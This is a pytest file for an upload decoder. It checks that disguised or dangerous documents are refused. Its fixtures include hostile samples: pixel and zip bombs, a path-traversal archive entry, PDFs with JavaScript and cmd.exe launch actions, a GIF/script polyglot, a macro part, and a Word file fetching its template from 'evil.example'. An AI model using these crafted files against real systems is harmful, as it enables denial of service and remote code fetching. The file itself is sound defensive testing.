# SPDX-FileCopyrightText: 2026 The Tvilling authors
# SPDX-License-Identifier: EUPL-1.2
"""Uploads are what they say, or are refused with a sentence."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
import pytest
from PIL import Image

from tests.factories.documents import docx_bytes, pdf_bytes, picture_bytes, xlsx_bytes
from tvilling.documents.decoders import FORMATS, DocumentRefused, decode


def changed_zip(content: bytes, extra: dict[str, bytes]) -> bytes:
    result = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, extra.pop(name, b"") or old.read(name))
        for name, data in extra.items():
            new.writestr(name, data)
    return result.getvalue()


def encrypted_pdf() -> bytes:
    result = BytesIO()
    with pikepdf.open(BytesIO(pdf_bytes())) as document:
        document.save(result, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return result.getvalue()


def pixel_bomb() -> bytes:
    """A PNG of a few bytes that claims 100,000 by 100,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


def action(kind: str, **fields: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name("/Action"), S=pikepdf.Name(kind), **fields)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("plan.pdf", pdf_bytes()), ("PLAN.PDF", pdf_bytes()), ("plan.docx", docx_bytes()), ("costs.xlsx", xlsx_bytes()),
        ("list.csv", "city;country\r\nLuleå;SE\r\n".encode()), ("note.txt", "Göteborg\n".encode()),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_whole_documents_are_kept_byte_for_byte(name: str, content: bytes) -> None:
    assert decode(name, content) == (FORMATS[name.rpartition(".")[2].lower()].media_type, content)


@pytest.mark.parametrize(
    ("name", "kind"), [("a.jpg", "JPEG"), ("a.jpeg", "JPEG"), ("a.png", "PNG"), ("a.webp", "WEBP")]
)
def test_pictures_keep_the_picture_and_nothing_else(name: str, kind: str) -> None:
    _type, kept = decode(name, picture_bytes(kind))
    with Image.open(BytesIO(kept)) as picture:
        assert (picture.format, picture.size) == (kind, (12, 8))
        assert not picture.getexif()
    assert b"secret" not in kept


def test_a_picture_taken_sideways_is_turned_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    turned = BytesIO()
    Image.new("RGB", (12, 8)).save(turned, "JPEG", exif=exif)
    with Image.open(BytesIO(decode("a.jpg", turned.getvalue())[1])) as picture:
        assert picture.size == (8, 12)


def test_text_from_an_old_windows_program_becomes_utf_8() -> None:
    assert decode("list.csv", "Luleå;5 €".encode("cp1252"))[1] == "Luleå;5 €".encode()


BAD = [
    ("tool.exe", b"MZ", "not accepted"),
    ("page.html", b"<p>", "not accepted"),
    ("drawing.svg", b"<svg/>", "not accepted"),
    ("noending", b"x", "not accepted"),
    ("plan.pdf.exe", pdf_bytes(), "not accepted"),
    ("plan.pdf", picture_bytes(), "not a PDF"),
    ("plan.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", "cannot be opened"),
    ("plan.pdf", b"<html>" + pdf_bytes(), "not a PDF"),
    ("plan.pdf", encrypted_pdf(), "password"),
    ("plan.pdf", pdf_bytes(OpenAction=action("/JavaScript", JS="app.alert(1)")), "scripts"),
    ("plan.pdf", pdf_bytes(OpenAction=action("/Launch", F="cmd.exe")), "scripts"),
    ("plan.pdf", pdf_bytes(AA=pikepdf.Dictionary(O=pikepdf.Array([action("/SubmitForm")]))), "scripts"),
    ("a.jpg", pdf_bytes(), "cannot be opened"),
    ("a.jpg", picture_bytes("PNG"), "cannot be opened"),
    ("a.jpg", picture_bytes(size=(200, 200))[:300], "cannot be opened"),
    ("a.gif", b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1)", "not accepted"),
    ("a.png", pixel_bomb(), "pixels"),
    ("plan.docx", xlsx_bytes(), "cannot be opened"),
    ("plan.docx", b"PK\x03\x04 nothing", "cannot be opened"),
    ("plan.docx", changed_zip(docx_bytes(), {"word/vbaProject.bin": b"x"}), "macros"),
    ("plan.docx", changed_zip(docx_bytes(), {"../../etc/passwd": b"x"}), "cannot be opened"),
    ("plan.docx", changed_zip(docx_bytes(), {"word/document.xml": b"<w:document"}), "cannot be opened"),
    ("plan.docx", changed_zip(docx_bytes(), {"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "macros"),
    ("costs.xlsx", changed_zip(xlsx_bytes(), {f"x{n}.txt": b"" for n in range(2100)}), "unpacks to more"),
    ("note.txt", b"\x00\x01\x02binary", "not a text file"),
    ("list.csv", b"\x7fELF\x02\x01", "not a text file"),
]


@pytest.mark.parametrize(
    ("name", "content", "words"), BAD, ids=[f"{number}-{case[0]}" for number, case in enumerate(BAD)]
)
def test_what_is_not_what_it_says_is_refused(name: str, content: bytes, words: str) -> None:
    with pytest.raises(DocumentRefused) as refusal:
        decode(name, content)
    assert words in str(refusal.value)


def test_a_word_file_that_fetches_its_template_from_elsewhere_is_refused() -> None:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = (
        b'<Relationship Id="r1" Type="%s" Target="https://evil.example/a.dotm" TargetMode="External"/>' % kind
    )
    bad = changed_zip(
        docx_bytes(), {"word/_rels/settings.xml.rels": b"<Relationships>%s</Relationships>" % relation}
    )
    with pytest.raises(DocumentRefused, match="fetches parts"):
        decode("plan.docx", bad)


def test_a_small_archive_that_unpacks_to_much_is_refused_without_unpacking_it_all() -> None:
    bomb = changed_zip(docx_bytes(), {"word/media/a.bin": b"\0" * (101 * 1024 * 1024)})
    assert len(bomb) < 300_000
    with pytest.raises(DocumentRefused, match="unpacks to more"):
        decode("plan.docx", bomb)
